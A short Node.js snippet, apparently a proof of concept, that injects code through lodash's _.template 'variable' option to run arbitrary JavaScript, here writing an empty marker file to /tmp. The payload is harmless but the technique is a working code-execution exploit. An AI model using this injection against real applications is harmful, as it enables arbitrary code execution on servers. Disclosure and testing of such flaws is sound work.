const _ = require('lodash');
const code = "process.mainModule.require('fs').writeFileSync('/tmp/made-by-template', '')";
try {
  _.template('', { variable: `a = ${code}` })();
} catch (error) {
  console.log(error.message);
}
